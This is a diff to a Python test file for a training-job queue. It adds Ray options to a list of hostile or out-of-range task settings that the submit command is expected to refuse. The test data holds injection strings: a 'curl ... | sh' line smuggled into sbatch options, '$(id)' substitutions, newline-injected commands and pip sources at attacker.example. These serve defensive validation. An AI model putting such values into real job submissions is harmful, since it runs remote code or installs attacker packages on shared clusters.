@@ -1,5 +1,7 @@
 """Task options a careless or hostile user could give, on the real PostgreSQL: Slurm values that
-would inject into the batch script (``options["slurm"]``) and training numbers out of their range.
+would inject into the batch script (``options["slurm"]``), Ray values that would reach the
+cluster (``options["ray"]``: a pip option or URL, a resource name with shell text) and training
+numbers out of their range.
 
 ``pytrain submit`` refuses them (nothing is inserted); a row inserted with plain SQL is claimed and
 failed with an error naming the option before any runner sees it, and the worker goes on to the
@@ -35,6 +37,18 @@ BAD_OPTIONS = [
      "slurm.extra_sbatch='--exclusive\\ncurl -s http://x/y | sh': item 'curl -s http://x/y | sh' is not --name or --name=value"),
     ({"slurm": {"extra_sbatch": "--output=/home/u/.bashrc"}}, "slurm.extra_sbatch='--output=/home/u/.bashrc': item"),
     ({"slurm": {"container_image": "img $(id)"}}, "slurm.container_image='img $(id)': must be an enroot/pyxis image"),
+    *(({"ray": {"accelerator_type": "H100" + suffix}}, f"ray.accelerator_type={'H100' + suffix!r}: must be a Ray accelerator type")
+      for suffix in HOSTILE_SUFFIXES.values()),
+    ({"ray": {"pip": ["--index-url=http://attacker.example/simple"]}},
+     "ray.pip=['--index-url=http://attacker.example/simple']: must be a pip requirement specifier"),
+    ({"ray": {"pip": ["torch @ https://attacker.example/torch.whl"]}},
+     "ray.pip=['torch @ https://attacker.example/torch.whl']: must be a pip requirement specifier"),
+    ({"ray": {"resources": {"node a; id": 1}}}, "ray.resources={'node a; id': 1}: must be a custom resource name"),
+    ({"ray": {"resources": {"node_a": -1}}}, "ray.resources={'node_a': -1}: Input should be greater than 0"),
+    ({"ray": {"container_image": "img $(id)"}}, "ray.container_image='img $(id)': must be an OCI image reference"),
+    ({"ray": {"memory": "8G\nid"}}, "ray.memory='8G\\nid': must be a memory size"),
+    ({"ray": {"address": "http://elsewhere:8265"}}, "ray.address is not a Ray setting"),
+    ({"ray": {"python": "/tmp/evil"}}, "ray.python is not a Ray setting"),
     ({"dropout": 1.5}, "dropout=1.5 is out of range: it must be >= 0 and < 1"),
     ({"weight_decay": -1}, "weight_decay=-1.0 is out of range: it must be >= 0 and <= 1"),
     ({"patience": 0}, "patience=0 is out of range: it must be >= 1 and <= 100000"),
@@ -51,6 +65,7 @@ def test_submit_refuses_hostile_slurm_values_and_out_of_range_numbers_naming_the
         assert "(hint: " in err
     assert TaskQueue(engine).counts() == {}
     code, out, _ = cli("submit", *TASK, "-o", 'slurm={"partition": "gpu,debug", "mem": "200G", "extra_sbatch": "--exclusive"}',
+                       "-o", 'ray={"gpus_per_node": 8, "accelerator_type": "H100", "resources": {"spot": 1}, "pip": ["av>=12,<13"]}',
                        "-o", "dropout=0", "-o", "weight_decay=1")
     assert (code, out.strip()) == (0, "task 1 queued (kitchen)")  # the bounds themselves are allowed
 
